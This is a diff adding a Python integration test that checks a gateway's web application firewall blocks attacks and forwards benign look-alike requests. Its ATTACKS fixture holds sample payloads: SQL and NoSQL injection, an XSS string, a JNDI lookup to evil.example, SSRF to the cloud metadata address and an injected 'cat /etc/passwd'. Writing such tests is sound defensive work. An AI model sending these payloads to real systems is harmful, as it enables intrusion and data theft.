@@ -1,0 +1,100 @@
+"""Integration: the waf policy in a real gateway on loopback (``bastion serve`` on port 0, real sockets).
+
+Attacks in the query, a header, a cookie and a JSON body get a 403 problem that echoes nothing and
+never reach the upstream; benign hard cases are forwarded byte for byte; report mode forwards.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+from bastion.testing.servers import GatewayThread, LoopThread, RecordingUpstream
+
+pytestmark = pytest.mark.integration
+
+CONFIG = """\
+listeners:
+  - address: 127.0.0.1:0
+    plaintext: true
+upstreams:
+  up: {{url: "http://127.0.0.1:{port}"}}
+routes:
+  - id: report-only
+    match: {{prefix: /report/}}
+    upstream: up
+    public: true
+    policies:
+      - waf: {{mode: report}}
+  - id: orders
+    match: {{prefix: /}}
+    upstream: up
+    public: true
+    policies:
+      - waf: {{exclusions: [{{field: /body/sql_console, rules: [sqli]}}]}}
+"""
+
+
+@pytest.fixture(scope="module")
+def lt() -> Iterator[LoopThread]:
+    t = LoopThread()
+    yield t
+    t.stop()
+
+
+@pytest.fixture(scope="module")
+def upstream(lt: LoopThread) -> Iterator[RecordingUpstream]:
+    up = RecordingUpstream(lt).start()
+    yield up
+    up.stop()
+
+
+@pytest.fixture(scope="module")
+def base_url(lt: LoopThread, upstream: RecordingUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    folder: Path = tmp_path_factory.mktemp("waf-gateway")
+    gw = GatewayThread(lt, folder, CONFIG.format(port=upstream.port)).start()
+    yield f"http://127.0.0.1:{gw.port}"
+    gw.stop()
+
+
+ATTACKS = {
+    "sqli_in_query": {"method": "GET", "url": "/orders", "params": {"q": "' or '1'='1"}},
+    "xss_in_header": {"method": "GET", "url": "/orders", "headers": {"x-client-info": "<svg onload=alert(1)>"}},
+    "jndi_in_cookie": {"method": "GET", "url": "/orders", "headers": {"cookie": "a=${jndi:ldap://evil.example/a}"}},
+    "ssrf_in_json": {"method": "POST", "url": "/webhooks", "json": {"callback_url": "http://169.254.169.254/latest/"}},
+    "nosql_in_json_key": {"method": "POST", "url": "/login", "json": {"user": "a", "password": {"$ne": None}}},
+    "cmdi_in_form": {"method": "POST", "url": "/ping", "data": {"host": "127.0.0.1; cat /etc/passwd"}},
+}
+
+
+@pytest.mark.parametrize("request_kwargs", ATTACKS.values(), ids=ATTACKS.keys())
+def test_attack_is_blocked_and_not_forwarded(base_url: str, upstream: RecordingUpstream,
+                                             request_kwargs: dict[str, object]) -> None:
+    before = len(upstream.requests)
+    with httpx.Client(base_url=base_url, timeout=5) as client:
+        response = client.request(**request_kwargs)  # type: ignore[arg-type]
+    assert response.status_code == 403
+    assert response.headers["content-type"].startswith("application/problem+json")
+    problem = response.json()
+    assert problem["type"].endswith("/request-blocked")
+    for needle in ("jndi", "svg", "169.254", "$ne", "passwd", "1'='1"):
+        assert needle not in response.text
+    assert len(upstream.requests) == before
+
+
+def test_benign_hard_cases_are_forwarded_unchanged(base_url: str, upstream: RecordingUpstream) -> None:
+    body = (b'{"name": "Conan O\'Brien", "comment": "Please select a plan -- or 2; drop me a line!",'
+            b' "sql_console": "1 union select 1", "website": "https://hooks.slack.com/services/T0/B0/X"}')
+    response = httpx.post(base_url + "/orders", content=body, headers={"content-type": "application/json"},
+                          params={"q": "Tom & Jerry; cat lovers"}, timeout=5)
+    assert response.status_code == 200, response.text
+    assert upstream.requests[-1].body == body
+
+
+def test_report_mode_forwards_the_attack(base_url: str, upstream: RecordingUpstream) -> None:
+    response = httpx.get(base_url + "/report/x", params={"q": "' or '1'='1"}, timeout=5)
+    assert response.status_code == 200
+    assert upstream.requests[-1].path == "/report/x"
